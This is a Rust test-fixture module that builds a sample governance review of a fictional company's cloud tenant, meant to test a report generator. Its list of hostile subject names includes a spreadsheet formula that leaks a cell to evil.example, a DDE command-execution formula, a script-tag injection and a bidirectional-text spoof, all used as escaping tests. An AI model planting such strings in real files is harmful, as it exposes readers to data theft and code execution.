//! A review as a consultant would release it, with the strings that tenants really have
//! and those that only an attacker writes. All names are invented.
use crate::pack::PackOptions;
use chrono::{DateTime, NaiveDate, TimeZone, Utc};
use domain::{
    profile::{Declared, DeclaredPrincipal, PrincipalType, TenantProfile},
    redaction::RedactionProfile,
    review::{
        EvidenceItem, OutcomeCounts, PreviousReview, ReviewContent, ReviewedFinding,
        ReviewedSnapshot, ReviewedStep, ReviewedTenant, ReviewedVerdict, Severity,
    },
    subject::{Coverage, CoverageState, GapReason, Kind, SubjectRef},
    verdict::{ControlId, EvidenceGap, Observation, Outcome, PolicyId, Reason, ReasonArg, Verdict},
};
use report::model::Paper;
use serde_json::{Value, json};
use std::collections::BTreeMap;

/// Names that break careless layouts and careless programs.
pub(crate) const HOSTILE: [&str; 8] = [
    "CA005-Grant-RequireMFA-AllUsers-AllApps-ExceptTheOnesThatNobodyDaredToTouchSinceTheMigrationOfTwentyNineteenAndTheirServiceAccounts_v2.17_final_FINAL",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "Policy \u{202e}gnihton swollA\u{202c} ok",
    "日本語のポリシー 🚫 العربية",
    "<script>alert(1)</script> & \"quotes\" 'n' \\ { $names }",
    "Line one\r\nLine two\ttabbed\u{0}end",
    "Zugriff fu\u{308}r Gäste – „Extern“ (Köln/Zürich)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

fn at(day: u32, hour: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, day, hour, 5, 9).unwrap()
}

fn day(month: u32, day: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, month, day).unwrap()
}

fn id<T: std::str::FromStr<Err = uuid::Error>>(number: u32) -> T {
    format!("018f4c7e-0000-7000-8000-{number:012}").parse().unwrap()
}

/// The overlay's policies: policy, control, criticality, NIST ids.
pub(crate) fn policies() -> Vec<(String, String, String, Vec<String>)> {
    let overlay: Value = serde_json::from_str(include_str!(
        "../../../../../../assets/catalogue/overlays/scuba.json"
    ))
    .unwrap();
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    overlay["policies"]
        .as_array()
        .unwrap()
        .iter()
        .map(|policy| {
            let nist = policy["nist"].as_array().unwrap().iter().map(text).collect();
            (text(&policy["policy"]), text(&policy["control"]), text(&policy["criticality"]), nist)
        })
        .collect()
}

/// Options of a customer-safe pack on A4.
pub(crate) fn options() -> PackOptions {
    PackOptions {
        redaction: RedactionProfile::CustomerSafe,
        paper: Paper::A4,
        secret: b"a secret of the vault".to_vec(),
        nist: policies().into_iter().map(|(policy, _, _, nist)| (PolicyId(policy), nist)).collect(),
    }
}

fn person(number: u32) -> SubjectRef {
    SubjectRef {
        kind: Kind::new("identity.privileged-user"),
        id: format!("7d3a1c5e-0000-4000-8000-{number:012}"),
        name: format!("Erika Musterfrau{number}"),
    }
}

fn subject(kind: &str, index: usize) -> SubjectRef {
    SubjectRef {
        kind: Kind::new(kind),
        id: format!("b7a1f0c2-1111-4222-8333-{index:012}"),
        name: HOSTILE[index % HOSTILE.len()].to_owned(),
    }
}

fn reason(index: usize, outcome: Outcome) -> Reason {
    let names = |count: usize| {
        ReasonArg::List((0..count).map(|n| HOSTILE[(index + n) % 8].to_owned()).collect())
    };
    let (code, args) = match outcome {
        Outcome::Satisfied => ("access-policy-protects", vec![("names", names(1))]),
        Outcome::NotSatisfied if index.is_multiple_of(3) => {
            ("access-policy-report-only", vec![("names", names(3))])
        }
        Outcome::NotSatisfied if index % 3 == 1 => {
            ("access-policy-narrow", vec![("names", names(12))])
        }
        Outcome::NotSatisfied => ("credentials-policy-disabled", vec![]),
        Outcome::NotAssessed => ("needs-attestation", vec![]),
        Outcome::NotApplicable => (
            "declared-not-applicable",
            vec![("reason", ReasonArg::Text("No agents are used; see contract annex 4.".into()))],
        ),
    };
    let args =
        args.into_iter().map(|(name, arg)| (name.to_owned(), arg)).collect::<BTreeMap<_, _>>();
    Reason { code: code.to_owned(), args }
}

fn verdict(index: usize, policy: &str, control: &str, criticality: &str) -> ReviewedVerdict {
    let outcome = match index % 10 {
        0..=5 if index < 40 => Outcome::NotSatisfied,
        6 | 7 => Outcome::Satisfied,
        8 => Outcome::NotAssessed,
        _ => Outcome::NotApplicable,
    };
    ReviewedVerdict {
        verdict: Verdict {
            policy: PolicyId(policy.to_owned()),
            control: ControlId(control.to_owned()),
            interpretation: 1,
            outcome,
            reason: reason(index, outcome),
            subjects: vec![
                subject("identity.access-policy", index),
                person(u32::try_from(index).unwrap()),
            ],
            observed: observed(index),
            gaps: vec![],
        },
        criticality: criticality.to_owned(),
        area: if policy.contains("SHAREPOINT") { "sharepoint" } else { "entra" }.to_owned(),
    }
}

fn observed(index: usize) -> Vec<Observation> {
    let policy = subject("identity.access-policy", index);
    let mut observed = vec![
        Observation {
            subject: Some(policy.clone()),
            path: "state".into(),
            expected: Some(json!("enabled")),
            actual: Some(json!("enabledForReportingButNotEnforced")),
        },
        Observation {
            subject: Some(policy.clone()),
            path: "conditions.users.excludeUsers".into(),
            expected: Some(json!([])),
            actual: Some(json!((0..14).map(|n| person(n).id).collect::<Vec<_>>())),
        },
        Observation {
            subject: Some(policy),
            path: "grantControls.authenticationStrength.allowedCombinations".into(),
            expected: None,
            actual: Some(json!({"combination": "x".repeat(600), "nested": [1, 2, {"deep": true}]})),
        },
    ];
    if index == 2 {
        observed = (0..30)
            .map(|n| Observation {
                subject: Some(subject("app.management-policy", n)),
                path: format!(
                    "restrictions.passwordCredentials[{n}].restrictForAppsCreatedAfterDateTime"
                ),
                expected: Some(json!(null)),
                actual: Some(json!(format!("2026-11-{:02}T00:00:00Z", n % 28 + 1))),
            })
            .collect();
    }
    observed
}

fn finding(number: u32, index: usize, reviewed: &ReviewedVerdict) -> ReviewedFinding {
    let severity = match number {
        1..=3 => Severity::Critical,
        4..=11 => Severity::High,
        12..=19 => Severity::Medium,
        _ => Severity::Low,
    };
    let states = ["new", "triaged", "in_progress", "new", "resolved", "reopened", "false_positive"];
    let state = states[index % states.len()];
    let mut history =
        vec![ReviewedStep { at: at(2, 8), state: "new".into(), by: None, reason: None }];
    if state != "new" {
        history.push(ReviewedStep {
            at: at(9, 14),
            state: state.into(),
            by: Some("Jana Vogt".into()),
            reason: (state == "false_positive").then(|| {
                "The setting is enforced by the on-premises proxy; shown to the auditor on 3 November.".into()
            }),
        });
    }
    ReviewedFinding {
        id: id(1_000 + number),
        number,
        policy: reviewed.verdict.policy.clone(),
        control: reviewed.verdict.control.clone(),
        severity,
        state: state.into(),
        owner: (!number.is_multiple_of(3)).then(|| "Dr. Friederike Oberhuber-Zellweger".into()),
        assignee: number.is_multiple_of(2).then(|| "Team Arbeitsplatz".into()),
        due: (!number.is_multiple_of(4)).then(|| day(12, number.min(28))),
        reason: reviewed.verdict.reason.clone(),
        observed: reviewed.verdict.observed.clone(),
        subjects: match number {
            2 => (0..35).map(|n| subject("identity.access-policy", n)).collect(),
            _ => reviewed.verdict.subjects.clone(),
        },
        customer_comment: (number % 5 == 1).then(|| {
            "Agreed with the customer on 12 November: two pilot groups first, all users from January. \
             Erika Musterfrau1 (erika@muster.example, +49 89 1234567) coordinates.\n\nSecond paragraph."
                .into()
        }),
        first_seen: at(2, 8),
        history,
    }
}

/// The review; a draft when `number` is none.
pub(crate) fn review(number: Option<u32>) -> ReviewContent {
    let verdicts: Vec<ReviewedVerdict> = policies()
        .iter()
        .enumerate()
        .map(|(index, (policy, control, criticality, _))| {
            verdict(index, policy, control, criticality)
        })
        .collect();
    let findings = verdicts
        .iter()
        .enumerate()
        .filter(|(_, reviewed)| reviewed.verdict.outcome == Outcome::NotSatisfied)
        .zip(1..)
        .map(|((index, reviewed), number)| finding(number, index, reviewed))
        .collect();
    ReviewContent {
        schema: "tenantpilot.review/1".into(),
        id: id(1),
        number,
        title: "Governance-Prüfung Herbst 2026".into(),
        period_from: day(8, 1),
        period_to: day(10, 31),
        classification: "Vertraulich".into(),
        introduction: "We thank everyone who answered our questions in October.\nThe most urgent step is the first \
                       one below; it takes an afternoon."
            .into(),
        consultancy: "Nordlicht Beratung GmbH".into(),
        author: "Jana Vogt".into(),
        tenant: ReviewedTenant {
            id: id(2),
            name: "Möbelwerke Hinterwald AG & Co. KGaA".into(),
            provider_tenant_id: Some("c0ffee00-1111-4222-8333-444455556666".into()),
            domain: Some("hinterwald.example".into()),
        },
        snapshot: ReviewedSnapshot {
            id: id(3),
            collected_at: Some(at(1, 6)),
            taken_at: at(2, 7),
            content_hash: "5f".repeat(32),
            subject_count: 12_345,
            coverage: coverage(),
        },
        catalogue_version: "2026.1".into(),
        profile: profile(),
        verdicts,
        findings,
        accepted_risks: Vec::new(),
        findings_left_out: 2,
        gaps: vec![
            EvidenceGap { kind: Kind::new("identity.directory-role"), path: Some("pim.rules.approval".into()), reason: GapReason::NotInSource },
            EvidenceGap { kind: Kind::new("tenant.group-setting"), path: None, reason: GapReason::ReadFailed },
        ],
        evidence: (1..=4)
            .map(|n| EvidenceItem {
                id: format!("E-{n}"),
                source: format!("ConditionalAccess/{}.json", HOSTILE[n % 8]),
                format: "policy-folder".into(),
                collected_at: Some(at(1, 6)),
                sha256: format!("{n:02x}").repeat(32),
                size_bytes: 612_345,
            })
            .collect(),
        previous: Some(PreviousReview {
            number: 2,
            released_at: Utc.with_ymd_and_hms(2026, 8, 14, 9, 0, 0).unwrap(),
            counts: OutcomeCounts { satisfied: 6, not_satisfied: 27, not_assessed: 5, not_applicable: 4 },
        }),
        released_at: number.map(|_| at(21, 14)),
        released_by: number.map(|_| "Jana Vogt".into()),
        tool_version: "0.1.0".into(),
    }
}

fn coverage() -> Vec<Coverage> {
    [
        ("identity.access-policy", CoverageState::Complete, None, 36),
        ("identity.directory-role", CoverageState::Partial, Some(GapReason::PropertyAbsent), 14),
        ("sharing.tenant-settings", CoverageState::Complete, None, 1),
        ("tenant.group-setting", CoverageState::NotCollected, Some(GapReason::ReadFailed), 0),
    ]
    .into_iter()
    .map(|(kind, state, reason, count)| Coverage {
        kind: Kind::new(kind),
        state,
        reason,
        count,
        completed: None,
    })
    .collect()
}

fn profile() -> TenantProfile {
    TenantProfile {
        emergency_access: vec![
            DeclaredPrincipal {
                id: person(1).id,
                principal: PrincipalType::User,
                name: "notfall1@hinterwald.example".into(),
                reason: "Safe in the board's office, tested in March".into(),
            },
            DeclaredPrincipal {
                id: "9f000000-0000-4000-8000-000000000001".into(),
                principal: PrincipalType::Group,
                name: "GRP-Notfallzugriff".into(),
                reason: String::new(),
            },
        ],
        own_domains: vec![Declared {
            value: "hinterwald.example".into(),
            reason: "Register of domains".into(),
        }],
        ..TenantProfile::default()
    }
}
